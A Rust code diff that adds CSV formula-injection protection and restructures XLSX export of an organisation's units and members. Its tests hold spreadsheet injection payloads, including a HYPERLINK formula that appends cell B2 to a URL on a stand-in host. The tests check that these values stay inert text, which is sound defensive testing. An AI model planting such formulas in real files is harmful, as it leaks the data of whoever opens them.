@@ -1,7 +1,14 @@
 //! A subtree's units and members as CSV (streamed, UTF-8 with a BOM so that
 //! Excel reads the Vietnamese right) and XLSX (bold, frozen header row).
+//!
+//! Every CSV cell goes through [`csv_cell`]: a name or title starting with
+//! `=`, `+`, `-` or `@` would otherwise run as a formula in a spreadsheet.
+//! The XLSX writes text with `write_string`, which stores it as text, never
+//! as a formula, so it is written as it is.
 
 use super::{ExportError, kind_vi, vi};
+use crate::blocking::Lane;
+use app::domain::text::csv_cell;
 use app::domain::{Gender, MemberStatus};
 use app::store::DynStore;
 use app::store::export::{ExportMember, ExportUnit, MemberCursor};
@@ -89,6 +96,17 @@ fn member_record(m: &ExportMember) -> [String; 9] {
     ]
 }
 
+/// One CSV line, every cell neutralised. All of them, not only the free
+/// text: one rule that no new column can miss. The app's own cells here are
+/// counts and dates, which never start with a character it changes.
+fn write_line<W: std::io::Write>(w: &mut csv::Writer<W>, cells: &[impl AsRef<str>]) {
+    // Writing to memory cannot fail.
+    for cell in cells {
+        let _ = w.write_field(csv_cell(cell.as_ref()).as_bytes());
+    }
+    let _ = w.write_record(None::<&[u8]>);
+}
+
 /// CSV lines of `records` (with the BOM and `header` first when given).
 fn csv_bytes<const N: usize>(header: Option<&[&str; N]>, records: &[[String; N]]) -> Vec<u8> {
     let mut out = Vec::new();
@@ -98,10 +116,10 @@ fn csv_bytes<const N: usize>(header: Option<&[&str; N]>, records: &[[String; N]]
     {
         let mut w = csv::Writer::from_writer(&mut out);
         if let Some(h) = header {
-            let _ = w.write_record(h);
+            write_line(&mut w, h);
         }
         for r in records {
-            let _ = w.write_record(r);
+            write_line(&mut w, r);
         }
         let _ = w.flush();
     }
@@ -123,6 +141,8 @@ where
         async move {
             let (first, cursor) = state?;
             match fetch(cursor).await {
+                // A page's formatting takes well under a millisecond: it
+                // stays here, between two reads.
                 Ok((records, next)) => {
                     let bytes = csv_bytes(first.then_some(header), &records);
                     let state = next.map(|c| (false, Some(c)));
@@ -232,12 +252,86 @@ fn too_many() -> ExportError {
     )
 }
 
-/// The units sheet, and the members sheet when `members`.
+/// A subtree's rows for its workbook, read before any is written.
+pub struct SubtreeRows {
+    pub units: Vec<ExportUnit>,
+    /// `None`: no members sheet.
+    pub members: Option<Vec<ExportMember>>,
+}
+
+/// The units sheet, and the members sheet when `members`: counted first
+/// (a subtree too large is refused before it is read), then read and
+/// zipped in a place on `lane`.
 pub async fn subtree_xlsx(
     store: &DynStore,
     root: &Unit,
     members: bool,
+    lane: &Lane,
 ) -> Result<Vec<u8>, ExportError> {
+    let cap = XLSX_ROWS as i64;
+    if store.count_export_units(root, cap + 1).await? > cap {
+        return Err(too_many());
+    }
+    if members && store.count_export_members(root, cap + 1).await? > cap {
+        return Err(too_many());
+    }
+    let place = lane.place().await?;
+    let rows = subtree_rows(store, root, members).await?;
+    super::in_place(place, move || subtree_workbook(&rows)).await
+}
+
+/// Every row of the subtree's workbook.
+pub async fn subtree_rows(
+    store: &DynStore,
+    root: &Unit,
+    members: bool,
+) -> Result<SubtreeRows, ExportError> {
+    Ok(SubtreeRows {
+        units: all_units(store, root).await?,
+        members: if members {
+            Some(all_members(store, root).await?)
+        } else {
+            None
+        },
+    })
+}
+
+/// Every row of the walk, refused past a sheet's rows (rows may have been
+/// added since the count).
+async fn all_units(store: &DynStore, root: &Unit) -> Result<Vec<ExportUnit>, ExportError> {
+    let mut rows: Vec<ExportUnit> = Vec::new();
+    loop {
+        let after = rows.last().map(|u| u.path.as_str());
+        let page = store.export_units(root, after, PAGE).await?;
+        let last = (page.len() as i64) < PAGE;
+        rows.extend(page);
+        if rows.len() > XLSX_ROWS {
+            return Err(too_many());
+        }
+        if last {
+            return Ok(rows);
+        }
+    }
+}
+
+async fn all_members(store: &DynStore, root: &Unit) -> Result<Vec<ExportMember>, ExportError> {
+    let mut rows: Vec<ExportMember> = Vec::new();
+    loop {
+        let after = rows.last().map(|m| &m.cursor);
+        let page = store.export_members(root, after, PAGE).await?;
+        let last = (page.len() as i64) < PAGE;
+        rows.extend(page);
+        if rows.len() > XLSX_ROWS {
+            return Err(too_many());
+        }
+        if last {
+            return Ok(rows);
+        }
+    }
+}
+
+/// The workbook of `rows` (CPU work: run it on the blocking pool).
+pub fn subtree_workbook(rows: &SubtreeRows) -> Result<Vec<u8>, ExportError> {
     use rust_xlsxwriter::{Format, Workbook, Worksheet};
     let bold = Format::new().set_bold();
     let date = Format::new().set_num_format("dd/mm/yyyy");
@@ -253,42 +347,15 @@ pub async fn subtree_xlsx(
     let ws = book.add_worksheet();
     ws.set_name("Đơn vị").map_err(xlsx_error)?;
     header(ws, &UNIT_HEADERS, &UNIT_WIDTHS).map_err(xlsx_error)?;
-    let mut row = 1u32;
-    let mut after: Option<String> = None;
-    loop {
-        let page = store.export_units(root, after.as_deref(), PAGE).await?;
-        for u in &page {
-            if row as usize > XLSX_ROWS {
-                return Err(too_many());
-            }
-            unit_row(ws, row, u, &date).map_err(xlsx_error)?;
-            row += 1;
-        }
-        if (page.len() as i64) < PAGE {
-            break;
-        }
-        after = page.last().map(|u| u.path.clone());
+    for (row, u) in (1u32..).zip(&rows.units) {
+        unit_row(ws, row, u, &date).map_err(xlsx_error)?;
     }
-
-    if members {
+    if let Some(members) = &rows.members {
         let ws = book.add_worksheet();
         ws.set_name("Đảng viên").map_err(xlsx_error)?;
         header(ws, &MEMBER_HEADERS, &MEMBER_WIDTHS).map_err(xlsx_error)?;
-        let mut row = 1u32;
-        let mut after: Option<MemberCursor> = None;
-        loop {
-            let page = store.export_members(root, after.as_ref(), PAGE).await?;
-            for m in &page {
-                if row as usize > XLSX_ROWS {
-                    return Err(too_many());
-                }
-                member_row(ws, row, m, &date).map_err(xlsx_error)?;
-                row += 1;
-            }
-            if (page.len() as i64) < PAGE {
-                break;
-            }
-            after = page.last().map(|m| m.cursor.clone());
+        for (row, m) in (1u32..).zip(members) {
+            member_row(ws, row, m, &date).map_err(xlsx_error)?;
         }
     }
     book.save_to_buffer().map_err(xlsx_error)
@@ -307,6 +374,58 @@ mod tests {
         assert_eq!(text, "Mã,Tên\n\"a,b\",\"Điền \"\"X\"\"\"\n");
         // Later pages: no BOM, no header.
         assert_eq!(csv_bytes::<2>(None, &rows)[0], b'"');
+    }
+
+    #[test]
+    fn csv_cells_that_would_run_as_formulas_are_text() {
+        let rows = [[
+            "=HYPERLINK(\"http://x/?\"&B2,\"x\")".to_string(),
+            "@SUM(A1)".to_string(),
+            "Chi bộ 1".to_string(),
+        ]];
+        let bytes = csv_bytes::<3>(None, &rows);
+        let mut r = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(&bytes[..]);
+        let record = r.records().next().unwrap().unwrap();
+        assert_eq!(
+            record.iter().collect::<Vec<_>>(),
+            [
+                "'=HYPERLINK(\"http://x/?\"&B2,\"x\")",
+                "'@SUM(A1)",
+                "Chi bộ 1"
+            ]
+        );
+    }
+
+    #[test]
+    fn xlsx_text_that_looks_like_a_formula_stays_text() {
+        use calamine::{Data, Reader};
+        let formula = "=HYPERLINK(\"http://x/\",\"x\")";
+        let unit = ExportUnit {
+            code: "-A1".into(),
+            name: formula.into(),
+            kind: app::domain::UnitKind::Cell,
+            parent_code: None,
+            full_members: 1,
+            probationary_members: 0,
+            secretary: Some("+84".into()),
+            valid_from: NaiveDate::from_ymd_opt(2020, 1, 1).unwrap(),
+            path: "/1/".into(),
+        };
+        let bytes = subtree_workbook(&SubtreeRows {
+            units: vec![unit],
+            members: None,
+        })
+        .unwrap();
+        let mut book: calamine::Xlsx<_> =
+            calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
+        let cells = book.worksheet_range("Đơn vị").unwrap();
+        assert_eq!(cells.get((1, 0)), Some(&Data::String("-A1".into())));
+        assert_eq!(cells.get((1, 1)), Some(&Data::String(formula.into())));
+        assert_eq!(cells.get((1, 6)), Some(&Data::String("+84".into())));
+        let formulas = book.worksheet_formula("Đơn vị").unwrap();
+        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
     }
 
     #[test]
